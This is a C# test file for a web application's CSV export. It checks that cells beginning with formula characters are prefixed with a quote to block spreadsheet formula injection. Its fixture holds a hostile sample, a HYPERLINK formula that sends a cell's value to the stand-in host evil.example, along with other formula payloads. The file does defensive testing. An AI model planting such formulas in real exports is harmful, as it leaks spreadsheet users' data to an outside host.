using System.Text;
using Cooperation.Web.Features.Shared;

namespace Cooperation.Tests.Shared;

/// <summary>
/// A name typed as a formula (<c>=HYPERLINK(...)</c>, <c>+1+1</c>) reaches the CSV files headquarters opens in Excel as
/// text, not as a formula: every cell that starts with <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab or a carriage
/// return is prefixed with a single quote and quoted whole (OWASP), in every export since they share one writer.
/// </summary>
public class CsvInjectionTests(CooperationFactory factory) : IClassFixture<CooperationFactory>
{
    private const string Link = "=HYPERLINK(\"https://evil.example/?x=\"&A1;\"Voir\")";

    [Fact]
    public async Task A_trainee_named_as_a_formula_is_exported_as_text()
    {
        var trainee = await factory.TraineeAsync();
        // As an import or an older version of a form may have written it.
        await factory.WithDbAsync(db => db.Trainees.Where(t => t.Id == trainee.Id).ExecuteUpdateAsync(u => u
            .SetProperty(t => t.FirstName, Link).SetProperty(t => t.Rank, "+1+1").SetProperty(t => t.Position, "@SUM(A1:A9)")));
        var page = await factory.PageClientAsync(DemoAccounts.Admin);

        var csv = await page.GetByteArrayAsync($"/Schools/Trainees?q={trainee.LastName}&handler=Export&format=csv");

        var lines = Encoding.UTF8.GetString(csv).TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        lines.Length.ShouldBe(2);
        lines[1].ShouldStartWith($"{trainee.LastName};\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1;\"\"Voir\"\")\";");
        lines[1].ShouldContain(";\"'+1+1\";\"'@SUM(A1:A9)\";");
    }

    [Theory]
    [Trait("Category", "Unit")]
    [InlineData("=1+2", "\"'=1+2\"")]
    [InlineData("+33 1 53 59 00 00", "\"'+33 1 53 59 00 00\"")]
    [InlineData("-2+3", "\"'-2+3\"")]
    [InlineData("@cmd", "\"'@cmd\"")]
    [InlineData("\t=1", "\"'\t=1\"")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("Dakar", "Dakar")]
    [InlineData("N'Djamena = capitale", "N'Djamena = capitale")]
    public void Every_text_cell_that_a_spreadsheet_would_run_starts_with_a_quote(string value, string written)
    {
        var csv = Encoding.UTF8.GetString(Export.Csv<string>([new("Ville", v => v)], [value])).TrimStart('\uFEFF');
        csv.ShouldBe($"Ville\r\n{written}\r\n");
    }

    [Fact]
    [Trait("Category", "Unit")]
    public void Numbers_keep_their_sign()
    {
        var csv = Encoding.UTF8.GetString(Export.Csv<int>([new("Écart", v => v)], [-3, 4])).TrimStart('\uFEFF');
        csv.ShouldBe("Écart\r\n-3\r\n4\r\n");
    }
}
